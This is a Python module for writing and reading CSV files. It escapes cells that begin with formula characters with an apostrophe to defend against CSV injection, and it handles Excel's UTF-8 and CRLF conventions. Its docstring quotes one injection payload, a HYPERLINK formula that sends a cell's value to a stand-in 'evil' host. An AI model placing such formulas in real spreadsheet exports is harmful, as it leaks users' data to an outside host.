"""CSV cells that a spreadsheet opens as text, and CSV files that Excel reads as UTF-8.

A spreadsheet runs a cell that begins with `=`, `+`, `-` or `@` as a formula, and a tab or carriage
return at the start can hide one; crawled values and sign-up forms can put any of them there
(`=HYPERLINK("http://evil/?"&A1, "click")`, an address `=1+1@example.org`). Outputs meant for people
(`entries list`, `search`, `history`, `review`, `runs`, `subscribers list` and `export`) write such a
cell after an apostrophe, OWASP's rule against CSV injection, which a spreadsheet shows as text and
hides; `subscribers import` takes it off again (`restored`), so nothing is lost.

The exchange CSV of `nansen export` is data and keeps every value exact (see docs/data-format.md).

Every CSV Nansen reads (entry and subscriber imports) is read by `spreadsheet_rows`, as spreadsheets
write it. Excel reads a CSV file as UTF-8 only when it starts with a byte-order mark, and ends rows with CRLF
(RFC 4180); `csv_text(..., excel=True)` writes both (the `--excel` option). Every CSV Nansen writes
is written by `csv_text`.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
_ESCAPED = (*FORMULA_LEADS, "'")  # a value's own leading apostrophe is doubled, so `restored` keeps it
BOM = "\ufeff"


def neutralized(cell: str) -> str:
    """`cell` as a spreadsheet shows it as text: after a `'` when it begins with a formula lead (or
    with an apostrophe of its own, which a spreadsheet would otherwise hide)."""
    return f"'{cell}" if cell.startswith(_ESCAPED) else cell


def restored(cell: str) -> str:
    """The value that `neutralized` wrote as `cell`: `restored(neutralized(v)) == v` for every `v`."""
    return cell[1:] if cell.startswith("'") and cell[1:].startswith(_ESCAPED) else cell


def csv_text(
    header: Sequence[str], rows: Iterable[Sequence[str]], *, for_people: bool = False, excel: bool = False
) -> str:
    """A CSV document: `header`, then `rows` of cell strings, rows ending with LF.

    `for_people` writes each cell `neutralized`; `excel` starts the text with a byte-order mark and
    ends rows with CRLF. A line break inside a cell is kept as it is either way, so the value reads
    back exactly."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n" if excel else "\n")
    writer.writerow(header)
    for row in rows:
        writer.writerow([neutralized(cell) for cell in row] if for_people else row)
    return (BOM if excel else "") + out.getvalue()


class MalformedCsv(ValueError):
    """Text that is not CSV (a cell longer than the csv module's limit, among others), at `line`."""

    def __init__(self, line: int, reason: str) -> None:
        super().__init__(f"malformed CSV: {reason}")
        self.line = line


CELL_LIMIT = 131_072  # characters in one cell: the csv module's default, whatever others set it to


def spreadsheet_rows(text: str) -> list[tuple[int, list[str]]]:
    """(the line a row starts on, its cells) for each row of `text`, the header first, read as
    spreadsheets write CSV (RFC 4180): rows ending with CRLF, LF or CR, and quoted cells holding the
    separator, quotes or line breaks, each kept as written (`newline=""`); cells separated by commas
    or, as Excel writes them in many locales (Russian among them), by semicolons or tabs: whichever the
    header line has most of. Raises MalformedCsv with the line of the row that cannot be read: a
    quoted cell that the file ends inside, or with text after its closing quote (`strict`: else the
    csv module would take either as a value), or a cell longer than `CELL_LIMIT` (the csv module's
    limit is process-wide, and libraries change it: it is set for the read and put back)."""
    header_line = re.split(r"[\r\n]", text, maxsplit=1)[0]
    delimiter = max((",", ";", "\t"), key=header_line.count)
    reader = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, strict=True)
    rows: list[tuple[int, list[str]]] = []
    line = 0  # where the last row read ends
    previous = csv.field_size_limit(CELL_LIMIT)
    try:
        for cells in reader:
            rows.append((line + 1, cells))
            line = reader.line_num
    except csv.Error as exc:
        reason = str(exc)
        if reason.startswith("field larger than field limit"):
            reason = f"a cell is longer than {CELL_LIMIT:,} characters"
        elif reason == "unexpected end of data":
            reason = "a quoted cell is not closed: the file ends inside it"
        elif reason.endswith("expected after '\"'"):
            reason = 'a quoted cell has text after its closing quote (write a quote inside a cell as "")'
        raise MalformedCsv(line + 1, reason) from None
    finally:
        csv.field_size_limit(previous)
    return rows
